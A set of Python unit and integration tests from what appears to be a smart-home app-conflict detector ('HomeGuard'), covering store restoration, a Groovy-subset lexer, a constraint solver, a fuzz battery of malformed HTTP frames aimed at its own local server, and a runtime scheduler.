    # reviews against the restored history.
    review = hg2.install(
        app_by_name("ComfortTV"),
        devices={"tv1": "Living-room TV", "tSensor": "Hall sensor",
                 "window1": "Back window"},
        values={"threshold1": 30},
    )
    assert review.threats  # conflicts with ColdDefender, as in session 1


def test_homeguard_restore_without_store_is_noop(tmp_path):
    from repro import HomeGuard

    hg = HomeGuard(transport="http")
    assert hg.restore() == []
    hg2 = HomeGuard(
        transport="http", store_path=str(tmp_path / "never-written")
    )
    assert hg2.restore() == []
    assert hg2.installed_apps() == []


def test_structurally_malformed_shard_never_crashes(tmp_path):
    """Valid JSON with a broken shape (bit-flip survivors) must degrade
    to re-signing / re-solving, not crash (code-review hardening)."""
    rulesets, resolver = build_store(size=8)
    store, _, cold_reports = _saved_store(tmp_path, rulesets, resolver)
    meta = json.loads((store.path / "meta.json").read_text(encoding="utf-8"))
    env = sorted(meta["shards"])[0]
    shard_path = store.path / meta["shards"][env]
    shard = json.loads(shard_path.read_text(encoding="utf-8"))
    for entry in shard["apps"].values():
        entry["ruleset"] = [{}]            # decodes as JSON, not as rules
    shard["caches"] = {"situation": ["junk", [["x"]]], "effect": [None]}
    shard_path.write_text(json.dumps(shard), encoding="utf-8")

    # Caller-supplied rulesets: fingerprints (from the intact meta)
    # still validate, the junk cache entries are skipped, and the lost
    # solves simply re-run — correct results, no crash.
    warm = store.warm_start(resolver, rulesets)
    assert _keys(warm.reports) == _keys(cold_reports)
    assert warm.pipeline.stats.solver_calls > 0

    # The persisted-rulesets path simply drops the undecodable apps.
    broken_apps = {
        app for app, rec in meta["apps"].items() if rec["environment"] == env
    }
    partial = store.warm_start(resolver)
    audited = {report.app_name for report in partial.reports}
    assert audited == set(meta["apps"]) - broken_apps


def test_decide_keep_after_warm_start_without_backend(tmp_path):
    """Re-reviewing + KEEPing an app in a warm-started process whose
    backend never re-extracted must not crash (code-review fix):
    decide() falls back to the recorded rules like review does."""
    from repro import HomeGuard, InstallDecision
    from repro.corpus import app_by_name

    store_path = tmp_path / "store"
    hg = HomeGuard(transport="http", store_path=str(store_path))
    hg.register_device("Living-room TV", "tv")
    hg.register_device("Hall sensor", "temperatureSensor")
    hg.register_device("Back window", "windowOpener")
    hg.install(
        app_by_name("ComfortTV"),
        devices={"tv1": "Living-room TV", "tSensor": "Hall sensor",
                 "window1": "Back window"},
        values={"threshold1": 30},
    )

    hg2 = HomeGuard(transport="http", store_path=str(store_path))
    hg2.restore()
    payload = hg2.app.config_recorder.config_of("ComfortTV")
    review = hg2.app.review_installation(payload)
    hg2.app.decide(review, InstallDecision.KEEP)  # used to AssertionError
    assert hg2.installed_apps() == ["ComfortTV"]


def test_save_is_generational_and_cleans_orphans(tmp_path):
    rulesets, resolver = build_store(size=8)
    store, pipeline, _ = _saved_store(tmp_path, rulesets, resolver)
    first = {p.name for p in store.path.glob("shard-*.json")}
    (store.path / "shard-999999-0000.json.tmp").write_text("x")

    store.save(pipeline, rulesets={r.app_name: r for r in rulesets})
    second = {p.name for p in store.path.glob("shard-*.json")}
    # A fresh generation replaced the old files and swept the orphans.
    assert first.isdisjoint(second)
    assert not list(store.path.glob("*.tmp"))
    meta = json.loads((store.path / "meta.json").read_text(encoding="utf-8"))
    assert meta["generation"] == 1
    assert set(meta["shards"].values()) == second
    # And the new generation still warm-starts clean.
    warm = store.warm_start(resolver, rulesets)
    assert warm.pipeline.stats.solver_calls == 0


def _review_facts(review):
    return (
        review.app_name,
        review.decision,
        tuple(review.rules),
        tuple(
            (t.type.value, t.rule_a.rule_id, t.rule_b.rule_id, t.detail,
             t.witness)
            for t in review.threats
        ),
    )


def test_review_decision_history_survives_warm_restart(tmp_path):
    """Past install screens — including the user's keep/delete choices
    and the threat evidence shown — must re-render after a restart."""
    from repro import HomeGuard, InstallDecision
    from repro.corpus import app_by_name

    store_path = tmp_path / "reviews-store"
    hg = HomeGuard(transport="http", store_path=str(store_path))
    hg.register_device("Living-room TV", "tv")
    hg.register_device("Hall sensor", "temperatureSensor")
    hg.register_device("Back window", "windowOpener")
    hg.register_device("Kitchen speaker", "speaker")
    hg.install(
        app_by_name("ComfortTV"),
        devices={"tv1": "Living-room TV", "tSensor": "Hall sensor",
                 "window1": "Back window"},
        values={"threshold1": 30},
    )
    kept = hg.install(
        app_by_name("ColdDefender"),
        devices={"tv2": "Living-room TV", "window2": "Back window"},
        values={"weather": "rainy"},
    )
    assert kept.threats and kept.decision == "keep"
    deleted = hg.install(
        app_by_name("CatchLiveShow"),
        devices={"voice": "Kitchen speaker", "tv3": "Living-room TV"},
        values={"showDay": "Thursday"},
        decision=InstallDecision.DELETE,
    )
    assert deleted.decision == "delete"

    hg2 = HomeGuard(transport="http", store_path=str(store_path))
    hg2.restore()
    restored = hg2.app.reviews
    assert len(restored) == len(hg.app.reviews)
    # Reviews of still-installed apps restore loss-free: decisions,
    # rendered rules, threat types/pairs/details/witnesses.
    assert _review_facts(restored[0]) == _review_facts(hg.app.reviews[0])
    assert _review_facts(restored[1]) == _review_facts(hg.app.reviews[1])
    # The deleted app's rules were forgotten, so its threats cannot be
    # reconstructed — but the decision record itself survives.
    assert restored[2].app_name == "CatchLiveShow"
    assert restored[2].decision == "delete"
    # Allowed-list provenance: the accepted CT pairs in the restored
    # history are exactly the restored Allowed list.
    accepted = [
        (t.rule_a.rule_id, t.rule_b.rule_id)
        for review in restored
        if review.decision == "keep"
        for t in review.threats
        if t.type.value == "CT"
    ]
    assert accepted == [
        (t.rule_a.rule_id, t.rule_b.rule_id)
        for t in hg2.app.allowed.pairs
    ]


def test_chained_threat_reviews_restore_with_chains(tmp_path):
    from repro import HomeGuard
    from repro.corpus import app_by_name

    store_path = tmp_path / "chain-store"
    hg = HomeGuard(transport="http", store_path=str(store_path))
    hg.register_device("Wall switch", "switch")
    hg.register_device("Front lock", "doorLock")
    hg.register_device("Hall motion", "motionSensor")
    hg.install(app_by_name("SwitchChangesMode"),
               devices={"master": "Wall switch"},
               values={"onMode": "Home", "offMode": "Away"})
    hg.install(app_by_name("MakeItSo"),
               devices={"switches": "Wall switch", "locks": "Front lock"},
               values={"targetMode": "Home", "heatSetpoint": 70})
    review = hg.install(app_by_name("CurlingIron"),
                        devices={"motion1": "Hall motion",
                                 "outlets": "Wall switch"},
                        values={"minutesLater": 30})
    assert review.chains

    hg2 = HomeGuard(transport="http", store_path=str(store_path))
    hg2.restore()
    restored = hg2.app.reviews[len(hg.app.reviews) - 1]
    assert restored.app_name == "CurlingIron"
    assert [
        tuple(rule.rule_id for rule in chain.chain)
        for chain in restored.chains
    ] == [
        tuple(rule.rule_id for rule in chain.chain)
        for chain in review.chains
    ]


def test_malformed_review_entries_degrade_not_crash(tmp_path):
    from repro import HomeGuard
    from repro.corpus import app_by_name

    store_path = tmp_path / "mangled-reviews"
    hg = HomeGuard(transport="http", store_path=str(store_path))
    hg.register_device("Living-room TV", "tv")
    hg.register_device("Hall sensor", "temperatureSensor")
    hg.register_device("Back window", "windowOpener")
    hg.install(
        app_by_name("ComfortTV"),
        devices={"tv1": "Living-room TV", "tSensor": "Hall sensor",
                 "window1": "Back window"},
        values={"threshold1": 30},
    )
    meta_path = store_path / "meta.json"
    meta = json.loads(meta_path.read_text(encoding="utf-8"))
    meta["frontend"]["reviews"] = [
        "not-a-dict",
        {"rules": ["missing app key"]},
        {"app": "ComfortTV", "rules": [], "decision": "keep",
         "threats": [["XX", "bad/R1", "bad/R2", "d", [], []], "junk"],
         "chains": []},
        meta["frontend"]["reviews"][0],
    ]
    meta_path.write_text(json.dumps(meta), encoding="utf-8")

    hg2 = HomeGuard(transport="http", store_path=str(store_path))
    hg2.restore()
    # The two malformed entries are skipped, the entry with broken
    # threat records keeps its review shell, the intact one restores.
    assert [r.app_name for r in hg2.app.reviews] == ["ComfortTV",
                                                     "ComfortTV"]
    assert hg2.app.reviews[0].threats == []
    assert hg2.installed_apps() == ["ComfortTV"]


def test_restore_into_missing_store_audits_cold(tmp_path):
    """restore_into must degrade like warm_start: with no usable
    snapshot the passed rulesets are still audited (all stale), so a
    live pipeline never silently comes up empty."""
    rulesets, resolver = build_store(size=8)
    store = DetectionStore(tmp_path / "nowhere")
    pipeline = DetectionPipeline(resolver, index=ShardedRuleIndex())
    result = store.restore_into(pipeline, rulesets)
    assert result.cold
    assert sorted(result.stale_apps) == sorted(r.app_name for r in rulesets)
    assert sorted(pipeline.installed_apps()) == sorted(
        r.app_name for r in rulesets
    )
    assert pipeline.stats.solver_calls > 0
    _, cold_reports = _cold_audit(rulesets, resolver)
    assert _keys(result.reports) == _keys(cold_reports)
