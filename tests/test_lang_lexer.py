"""Unit tests for the Groovy-subset lexer."""

import pytest

from repro.lang import LexError, tokenize
from repro.lang.tokens import TokenType


def types(source):
    return [token.type for token in tokenize(source)][:-1]  # drop EOF


def test_numbers_int_and_decimal():
    tokens = tokenize("30 1.5 100L 2.0d")
    assert [t.type for t in tokens[:-1]] == [
        TokenType.INT,
        TokenType.DECIMAL,
        TokenType.INT,
        TokenType.DECIMAL,
    ]
    assert tokens[0].value == 30
    assert tokens[1].value == 1.5


def test_range_operator_not_decimal():
    tokens = tokenize("1..5")
    assert [t.type for t in tokens[:-1]] == [
        TokenType.INT,
        TokenType.RANGE,
        TokenType.INT,
    ]


def test_plain_string_single_quotes():
    tokens = tokenize("'hello world'")
    assert tokens[0].type is TokenType.STRING
    assert tokens[0].value == "hello world"


def test_double_quoted_without_interpolation_is_string():
    tokens = tokenize('"switch.on"')
    assert tokens[0].type is TokenType.STRING
    assert tokens[0].value == "switch.on"


def test_gstring_with_interpolation():
    tokens = tokenize('"value: ${threshold1} units"')
    assert tokens[0].type is TokenType.GSTRING
    parts = tokens[0].value
    assert parts[0] == "value: "
    assert parts[1] == ("expr", "threshold1")
    assert parts[2] == " units"


def test_gstring_dollar_identifier():
    tokens = tokenize('"hi $name!"')
    parts = tokens[0].value
    assert parts == ["hi ", ("expr", "name"), "!"]


def test_gstring_nested_braces():
    tokens = tokenize('"x ${a ? b : c}"')
    parts = tokens[0].value
    assert parts[1] == ("expr", "a ? b : c")


def test_escapes():
    tokens = tokenize(r'"line\nbreak\t\"q\""')
    assert tokens[0].value == 'line\nbreak\t"q"'


def test_keywords_vs_identifiers():
    tokens = tokenize("if elsewhere def define")
    assert [t.type for t in tokens[:-1]] == [
        TokenType.IF,
        TokenType.IDENT,
        TokenType.DEF,
        TokenType.IDENT,
    ]


def test_operators_maximal_munch():
    assert types("a <= b == c && d ?: e") == [
        TokenType.IDENT,
        TokenType.LE,
        TokenType.IDENT,
        TokenType.EQ,
        TokenType.IDENT,
        TokenType.AND,
        TokenType.IDENT,
        TokenType.ELVIS,
        TokenType.IDENT,
    ]


def test_line_comment_skipped():
    tokens = tokenize("a // comment\nb")
    assert [t.value for t in tokens[:-1]] == ["a", "b"]
    assert tokens[1].after_newline


def test_block_comment_preserves_newline_flag():
    tokens = tokenize("a /* multi\nline */ b")
    assert tokens[1].after_newline


def test_after_newline_flag():
    tokens = tokenize("a\nb c")
    assert not tokens[0].after_newline
    assert tokens[1].after_newline
    assert not tokens[2].after_newline


def test_unterminated_string_raises():
    with pytest.raises(LexError):
        tokenize('"never closed')


def test_unterminated_block_comment_raises():
    with pytest.raises(LexError):
        tokenize("/* never closed")


def test_unknown_character_raises():
    with pytest.raises(LexError):
        tokenize("a @ b")


def test_safe_navigation_and_method_ref():
    assert types("a?.b this.&handler") == [
        TokenType.IDENT,
        TokenType.SAFE_DOT,
        TokenType.IDENT,
        TokenType.IDENT,
        TokenType.METHOD_REF,
        TokenType.IDENT,
    ]


def test_locations_are_one_based():
    tokens = tokenize("a\n  b")
    assert (tokens[0].location.line, tokens[0].location.column) == (1, 1)
    assert (tokens[1].location.line, tokens[1].location.column) == (2, 3)
