"""Unit tests for the CSP solver."""

from repro.constraints.solver import Result, Solver, VarPool
from repro.constraints.terms import (
    AffineTerm,
    CmpAtom,
    FALSE,
    FreeAtom,
    StrTerm,
    TRUE,
    conj,
    disj,
    lit,
    neg,
)


def num(key, pool, low=0, high=100):
    pool.declare_num(key, low, high)
    return AffineTerm(key)


def enum(key, pool, *values):
    pool.declare_str(key, set(values) if values else None)
    return StrTerm(key)


def solve(pool, formula) -> Result:
    return Solver(pool).solve(formula)


def test_trivial_constants():
    pool = VarPool()
    assert solve(pool, TRUE).sat
    assert not solve(pool, FALSE).sat


def test_numeric_equality_sat():
    pool = VarPool()
    x = num("x", pool)
    formula = lit(CmpAtom(x, "==", AffineTerm.const(42)))
    result = solve(pool, formula)
    assert result.sat
    assert abs(result.witness["x"] - 42) < 1e-6


def test_numeric_equality_out_of_bounds_unsat():
    pool = VarPool()
    x = num("x", pool, 0, 10)
    assert not solve(pool, lit(CmpAtom(x, "==", AffineTerm.const(42)))).sat


def test_conflicting_inequalities_unsat():
    pool = VarPool()
    x = num("x", pool)
    formula = conj([
        lit(CmpAtom(x, ">", AffineTerm.const(50))),
        lit(CmpAtom(x, "<", AffineTerm.const(40))),
    ])
    assert not solve(pool, formula).sat


def test_window_between_thresholds_sat():
    pool = VarPool()
    x = num("x", pool)
    formula = conj([
        lit(CmpAtom(x, ">", AffineTerm.const(30))),
        lit(CmpAtom(x, "<", AffineTerm.const(35))),
    ])
    result = solve(pool, formula)
    assert result.sat
    assert 30 < result.witness["x"] < 35


def test_var_to_var_ordering():
    pool = VarPool()
    x, y = num("x", pool), num("y", pool)
    cyc = conj([
        lit(CmpAtom(x, "<", y)),
        lit(CmpAtom(y, "<", x)),
    ])
    assert not solve(pool, cyc).sat
    chain = conj([
        lit(CmpAtom(x, "<", y)),
        lit(CmpAtom(y, "<=", AffineTerm.const(5))),
    ])
    result = solve(pool, chain)
    assert result.sat
    assert result.witness["x"] < result.witness["y"] <= 5


def test_affine_transformation():
    pool = VarPool()
    x = num("x", pool, -100, 200)
    # 2x + 10 == 30  ->  x == 10
    term = AffineTerm("x", mul=2.0, add=10.0)
    result = solve(pool, lit(CmpAtom(term, "==", AffineTerm.const(30))))
    assert result.sat
    assert abs(result.witness["x"] - 10) < 1e-6


def test_string_equality():
    pool = VarPool()
    s = enum("s", pool, "on", "off")
    assert solve(pool, lit(CmpAtom(s, "==", StrTerm(None, "on")))).sat
    assert not solve(pool, lit(CmpAtom(s, "==", StrTerm(None, "open")))).sat


def test_string_var_to_var_disjoint_domains_unsat():
    pool = VarPool()
    a = enum("a", pool, "on", "off")
    b = enum("b", pool, "open", "closed")
    assert not solve(pool, lit(CmpAtom(a, "==", b))).sat


def test_string_var_to_var_shared_value_sat():
    pool = VarPool()
    a = enum("a", pool, "on", "off")
    b = enum("b", pool, "off", "standby")
    result = solve(pool, lit(CmpAtom(a, "==", b)))
    assert result.sat
    assert result.witness["a"] == "off"


def test_string_inequality_conflict():
    pool = VarPool()
    a = enum("a", pool, "on")
    formula = lit(CmpAtom(a, "!=", StrTerm(None, "on")))
    assert not solve(pool, formula).sat


def test_open_string_universe():
    pool = VarPool()
    mode = enum("mode", pool)  # open universe (location modes)
    formula = conj([
        lit(CmpAtom(mode, "!=", StrTerm(None, "Home"))),
        lit(CmpAtom(mode, "!=", StrTerm(None, "Away"))),
    ])
    result = solve(pool, formula)
    assert result.sat
    assert result.witness["mode"] not in ("Home", "Away")


def test_same_open_var_equal_and_unequal_unsat():
    pool = VarPool()
    mode = enum("mode", pool)
    formula = conj([
        lit(CmpAtom(mode, "==", StrTerm(None, "sleep"))),
        lit(CmpAtom(mode, "!=", StrTerm(None, "sleep"))),
    ])
    assert not solve(pool, formula).sat


def test_disjunction_picks_feasible_branch():
    pool = VarPool()
    x = num("x", pool, 0, 10)
    formula = disj([
        lit(CmpAtom(x, ">", AffineTerm.const(50))),   # infeasible
        lit(CmpAtom(x, "==", AffineTerm.const(3))),   # feasible
    ])
    result = solve(pool, formula)
    assert result.sat
    assert abs(result.witness["x"] - 3) < 1e-6


def test_negation_normal_form():
    inner = conj([
        lit(CmpAtom(AffineTerm("x"), ">", AffineTerm.const(5))),
        lit(CmpAtom(AffineTerm("x"), "<", AffineTerm.const(7))),
    ])
    negated = neg(inner)
    assert negated.kind == "or"
    ops = {child.atom.op for child in negated.children}
    assert ops == {"<=", ">="}


def test_free_atoms_branch_consistently():
    pool = VarPool()
    p = FreeAtom("rainy")
    formula = conj([lit(p), neg(lit(p))])
    assert not solve(pool, formula).sat
    formula2 = disj([lit(p), neg(lit(p))])
    assert solve(pool, formula2).sat


def test_mixed_formula():
    pool = VarPool()
    temp = num("temp", pool, -40, 150)
    sw = enum("sw", pool, "on", "off")
    formula = conj([
        lit(CmpAtom(temp, ">", AffineTerm.const(30))),
        lit(CmpAtom(sw, "==", StrTerm(None, "off"))),
        disj([
            lit(CmpAtom(temp, "<", AffineTerm.const(20))),
            lit(FreeAtom("weekend")),
        ]),
    ])
    result = solve(pool, formula)
    assert result.sat
    assert result.witness["?weekend"] is True


def test_decisions_counted():
    pool = VarPool()
    x = num("x", pool)
    formula = lit(CmpAtom(x, ">", AffineTerm.const(10)))
    result = solve(pool, formula)
    assert result.sat
    assert result.decisions >= 1


def test_pool_merges_declarations():
    pool = VarPool()
    pool.declare_num("x", 0, 10)
    pool.declare_num("x", 5, 20)
    assert pool.num_bounds["x"] == (0, 20)
    pool.declare_str("s", {"a"})
    pool.declare_str("s", {"b"})
    assert pool.str_candidates["s"] == {"a", "b"}
    pool.declare_str("open", None)
    pool.declare_str("open", {"x"})
    assert pool.str_candidates["open"] == {"x"}
