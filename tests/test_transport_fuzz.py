"""Transport fuzz battery (DESIGN.md §13).

Hundreds of malformed frames — truncated bodies, invalid UTF-8,
unknown kind/schema stamps, oversized payloads, duplicated fields,
garbage HTTP heads, random mutations of valid frames — thrown at a
live server.  Every one must come back as a typed
:class:`ServiceError` response (or a clean connection close), never a
traceback on the wire, never a crashed server.  The server's own
``internal_errors`` counter is the ground truth: it counts every
request the catch-all 500 path had to absorb, and this battery pins it
at zero.
"""

import json
import random
import socket
import threading

import pytest

from repro.service.errors import ERROR_CODES, SessionDecidedError
from repro.service.schemas import DecisionRequest, InstallRequest
from repro.service.service import HomeGuardService
from repro.service.transport import (
    FleetClient,
    TenantQuota,
    serve_background,
)

#: Request-size cap for the fuzz server (small, so oversize is cheap).
MAX_REQUEST_BYTES = 32 * 1024

#: Every frame the battery sent, for the final accounting test.
FRAMES_SENT = []

APP_SOURCE = """
definition(name: "Fuzz App", namespace: "t", author: "t")
preferences {
    section("sw") { input "sw", "capability.switch" }
}
def installed() { subscribe(sw, "switch.on", h) }
def h(evt) { sw.off() }
"""


@pytest.fixture(scope="module")
def live():
    service = HomeGuardService(workers=None)
    with serve_background(
        service,
        own_service=True,
        max_request_bytes=MAX_REQUEST_BYTES,
        io_timeout=0.05,  # truncated bodies answer fast
        quota=TenantQuota(rate=1000.0, burst=10_000, max_inflight=64),
    ) as background:
        yield background


# ----------------------------------------------------------------------
# Raw frame plumbing


def frame(
    body: bytes,
    length: int | None = None,
    method: str = "POST",
    target: str = "/rpc",
    headers: tuple = (),
) -> bytes:
    head = (
        f"{method} {target} HTTP/1.1\r\n"
        f"Host: fuzz\r\n"
        f"Content-Length: {len(body) if length is None else length}\r\n"
    )
    for header in headers:
        head += header + "\r\n"
    return head.encode("latin-1") + b"\r\n" + body


def rpc_body(method="status", params=None, **envelope) -> bytes:
    payload = {"jsonrpc": "2.0", "id": 1, "method": method,
               "params": params}
    payload.update(envelope)
    return json.dumps(payload).encode("utf-8")


def read_response(sock: socket.socket) -> bytes:
    """One HTTP response (or b'' if the server just closed)."""
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        if not chunk:
            return data
        data = data + chunk
    head, _, rest = data.partition(b"\r\n\r\n")
    length = 0
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            length = int(value.strip())
    while len(rest) < length:
        chunk = sock.recv(65536)
        if not chunk:
            break
        rest = rest + chunk
    return head + b"\r\n\r\n" + rest


def exchange(live, payload: bytes, half_close: bool = False) -> bytes:
    """Send raw bytes, return the server's raw response bytes."""
    FRAMES_SENT.append(len(payload))
    with socket.create_connection(
        (live.host, live.port), timeout=5.0
    ) as sock:
        try:
            sock.sendall(payload)
            if half_close:
                sock.shutdown(socket.SHUT_WR)
        except (BrokenPipeError, ConnectionResetError):
            # Server already refused (e.g. oversize) and closed.
            return b""
        try:
            return read_response(sock)
        except (socket.timeout, ConnectionResetError):
            return b""


def assert_typed_rejection(response: bytes, allow_empty: bool = True):
    """The invariant every malformed frame is held to."""
    assert b"Traceback" not in response
    assert b'"exc_info"' not in response
    if not response:
        assert allow_empty, "expected a response, connection just closed"
        return None
    status = int(response.split(b" ", 2)[1])
    assert 400 <= status < 600, response[:120]
    _, _, body = response.partition(b"\r\n\r\n")
    envelope = json.loads(body)
    error = envelope["error"]
    record = error["data"]
    assert record["kind"] == "ServiceError"
    assert record["code"] in ERROR_CODES
    return record["code"]


# ----------------------------------------------------------------------
# Categories


def test_truncated_bodies_yield_typed_errors(live):
    rng = random.Random(7001)
    body = rpc_body()
    for trial in range(60):
        cut = rng.randrange(0, len(body))
        payload = frame(body[:cut], length=len(body))
        code = assert_typed_rejection(
            exchange(live, payload, half_close=trial % 2 == 0),
            allow_empty=False,
        )
        assert code in ("invalid-request", "schema-mismatch")


def test_invalid_utf8_bodies_yield_schema_mismatch(live):
    rng = random.Random(7002)
    for _ in range(60):
        junk = bytes(
            rng.choice((0xFF, 0xFE, 0xC0, 0xA0, 0x80))
            for _ in range(rng.randrange(1, 40))
        )
        body = rpc_body()[:-1] + junk
        code = assert_typed_rejection(
            exchange(live, frame(body)), allow_empty=False
        )
        assert code == "schema-mismatch"


def test_malformed_envelopes_yield_typed_errors(live):
    bad_envelopes = [
        b"null", b"42", b"[]", b'"rpc"', b"{}", b"{not json",
        rpc_body(jsonrpc="1.0"),
        rpc_body(jsonrpc=2.0),
        rpc_body(surprise=True),
        rpc_body(method=None),
        rpc_body(method=""),
        rpc_body(method=["status"]),
        rpc_body(id={"nested": 1}),
        json.dumps({"id": 1, "method": "status"}).encode(),
    ]
    rng = random.Random(7003)
    for trial in range(80):
        body = bad_envelopes[trial % len(bad_envelopes)]
        if trial >= len(bad_envelopes) * 2:
            # Pad with whitespace/garbage tails to vary the byte shape.
            body = body + bytes(rng.choice(b" \t\r\n{}[],") for _ in range(8))
        assert_typed_rejection(exchange(live, frame(body)),
                               allow_empty=False)


def test_unknown_kind_and_schema_stamps_yield_typed_errors(live):
    rng = random.Random(7004)
    base = InstallRequest(
        home_id="h", app_name="a", devices={"sw": "switch"}
    ).to_json()
    for trial in range(80):
        record = dict(base)
        mutation = trial % 4
        if mutation == 0:
            record["kind"] = rng.choice(
                ["NoSuchModel", "installrequest", "", 17, None,
                 ["InstallRequest"]]
            )
        elif mutation == 1:
            record["schema"] = rng.choice(
                [0, -1, 99, "3", None, 2.5]
            )
        elif mutation == 2:
            record[f"field{rng.randrange(100)}"] = "surprise"
        else:
            record.pop(rng.choice(["home_id", "app_name", "kind",
                                   "schema"]), None)
        code = assert_typed_rejection(
            exchange(live, frame(rpc_body("echo", record))),
            allow_empty=False,
        )
        assert code in ("schema-mismatch", "invalid-request")


def test_oversized_payloads_are_refused_with_413(live):
    for promised in (MAX_REQUEST_BYTES + 1, MAX_REQUEST_BYTES * 4,
                     10**9):
        for send_body in (False, True):
            body = b"x" * min(promised, MAX_REQUEST_BYTES * 4) if send_body else b""
            payload = frame(body, length=promised)
            response = exchange(live, payload)
            code = assert_typed_rejection(response, allow_empty=send_body)
            if code is not None:
                assert code == "request-too-large"
                assert b" 413 " in response.split(b"\r\n", 1)[0]
    # Oversized *head* (header flood) is refused too.
    flood = frame(b"", headers=tuple(
        f"X-Flood-{index}: {'y' * 200}" for index in range(200)
    ))
    assert_typed_rejection(exchange(live, flood))


def test_duplicated_fields_are_rejected(live):
    rng = random.Random(7006)
    for trial in range(60):
        if trial % 2 == 0:
            body = (
                b'{"jsonrpc":"2.0","id":1,"method":"status",'
                b'"method":"echo","params":null}'
            )
        else:
            name = rng.choice(
                [b"home_id", b"kind", b"schema", b"app_name"]
            )
            body = (
                b'{"jsonrpc":"2.0","id":1,"method":"echo","params":'
                b'{"kind":"AuditRequest","schema":3,"apps":null,'
                b'"home_id":"h","' + name + b'":"dup"}}'
            )
        code = assert_typed_rejection(exchange(live, frame(body)),
                                      allow_empty=False)
        assert code == "schema-mismatch"


def test_garbage_http_heads_never_crash(live):
    rng = random.Random(7007)
    heads = [
        b"\r\n\r\n",
        b"GARBAGE\r\n\r\n",
        b"POST\r\n\r\n",
        b"POST /rpc\r\n\r\n",
        b"POST /rpc SPDY/99\r\n\r\n",
        b"GET /rpc HTTP/1.1\r\nContent-Length: 0\r\n\r\n",
        b"POST /other HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}",
        b"POST /rpc HTTP/1.1\r\nno-colon-header\r\n\r\n",
        b"POST /rpc HTTP/1.1\r\nContent-Length: banana\r\n\r\n",
        b"POST /rpc HTTP/1.1\r\nContent-Length: -5\r\n\r\n",
        b"POST /rpc HTTP/1.1\r\n\r\n",  # no length at all
    ]
    for trial in range(80):
        if trial < len(heads) * 4:
            payload = heads[trial % len(heads)]
        else:
            payload = bytes(
                rng.randrange(256) for _ in range(rng.randrange(1, 200))
            ) + b"\r\n\r\n"
        assert_typed_rejection(exchange(live, payload, half_close=True))


def test_random_mutations_of_a_valid_frame_never_crash(live):
    rng = random.Random(7008)
    valid = frame(rpc_body("status"))
    for _ in range(120):
        mutated = bytearray(valid)
        for _ in range(rng.randrange(1, 6)):
            position = rng.randrange(len(mutated))
            mutated[position] = rng.randrange(256)
        response = exchange(live, bytes(mutated), half_close=True)
        # A mutation can leave the frame valid — 200 is fine; anything
        # else must be a typed rejection, and never a traceback.
        assert b"Traceback" not in response
        if response and b" 200 " not in response.split(b"\r\n", 1)[0]:
            assert_typed_rejection(response)


# ----------------------------------------------------------------------
# Concurrency: session-replay races


def test_concurrent_decide_race_has_exactly_one_winner(live):
    with FleetClient(live.host, live.port) as client:
        client.create_home("fuzz-race")
        session = client.install(InstallRequest(
            home_id="fuzz-race", app_name="fuzz-app", source=APP_SOURCE,
            devices={"sw": "switch"},
        ))
        assert session.pending
        outcomes = []
        lock = threading.Lock()

        def decide():
            with FleetClient(live.host, live.port) as racer:
                try:
                    racer.decide(DecisionRequest(
                        home_id="fuzz-race",
                        session_id=session.session_id,
                        decision="keep",
                    ))
                    outcome = "won"
                except SessionDecidedError:
                    outcome = "decided"
            with lock:
                outcomes.append(outcome)

        threads = [
            threading.Thread(target=decide) for _ in range(8)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert outcomes.count("won") == 1
        assert outcomes.count("decided") == 7
        # The one-shot decision stuck.
        assert client.session(
            "fuzz-race", session.session_id
        ).decision == "keep"


# ----------------------------------------------------------------------
# Accounting: the server survived all of it


def test_battery_volume_and_zero_internal_errors(live):
    assert len(FRAMES_SENT) >= 500, (
        f"fuzz battery shrank to {len(FRAMES_SENT)} frames; "
        "keep it at 500+"
    )
    with FleetClient(live.host, live.port) as client:
        record = client.status()
        assert record.state == "serving"
        assert record.internal_errors == 0
        # And the server still does real work after the beating.
        client.create_home("fuzz-after")
        assert client.installed_apps("fuzz-after") == []
