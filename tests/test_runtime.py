"""Unit tests for the smart-home runtime simulator."""

import pytest

from repro.runtime import Event, EventBus, Environment, SmartHome, VirtualClock
from repro.runtime.sandbox import SandboxViolation, check_method_allowed
from repro.runtime.scheduler import Scheduler


# ----------------------------------------------------------------------
# Clock

def test_clock_advances():
    clock = VirtualClock()
    clock.advance(10)
    assert clock.now == 10
    clock.advance_to(25)
    assert clock.now == 25


def test_clock_rejects_backwards():
    clock = VirtualClock(100)
    with pytest.raises(ValueError):
        clock.advance_to(50)


def test_time_of_day_wraps():
    clock = VirtualClock(86400 + 3600)
    assert clock.time_of_day() == 3600


# ----------------------------------------------------------------------
# Scheduler

def test_run_in_executes_once():
    clock = VirtualClock()
    sched = Scheduler(clock)
    fired = []
    sched.run_in(60, lambda: fired.append(clock.now))
    sched.run_until(200)
    assert fired == [60]
    assert clock.now == 200


def test_run_in_overwrite_semantics():
    clock = VirtualClock()
    sched = Scheduler(clock)
    fired = []
    sched.run_in(60, lambda: fired.append("first"), owner="app", name="job")
    sched.run_in(90, lambda: fired.append("second"), owner="app", name="job")
    sched.run_until(200)
    assert fired == ["second"]  # SmartThings runIn overwrites by default


def test_run_in_no_overwrite():
    clock = VirtualClock()
    sched = Scheduler(clock)
    fired = []
    sched.run_in(60, lambda: fired.append(1), owner="app", name="job")
    sched.run_in(
        90, lambda: fired.append(2), owner="app", name="job", overwrite=False
    )
    sched.run_until(200)
    assert fired == [1, 2]


def test_run_every_repeats():
    clock = VirtualClock()
    sched = Scheduler(clock)
    fired = []
    sched.run_every(100, lambda: fired.append(clock.now))
    sched.run_until(350)
    assert fired == [100, 200, 300]


def test_schedule_daily():
    clock = VirtualClock()
    sched = Scheduler(clock)
    fired = []
    sched.schedule_daily(3600, lambda: fired.append(clock.now))
    sched.run_until(2 * 86400)
    assert fired == [3600, 3600 + 86400]


def test_cancel_owner():
    clock = VirtualClock()
    sched = Scheduler(clock)
    fired = []
    sched.run_in(10, lambda: fired.append("a"), owner="appA")
    sched.run_in(10, lambda: fired.append("b"), owner="appB")
    sched.cancel_owner("appA")
    sched.run_until(20)
    assert fired == ["b"]


# ----------------------------------------------------------------------
# Event bus

def test_bus_matches_subject_and_attribute():
    bus = EventBus()
    hits = []
    bus.subscribe("dev1", "switch", hits.append, owner="app")
    handlers = bus.publish(Event("dev1", "switch", "on", 0.0))
    assert len(handlers) == 1
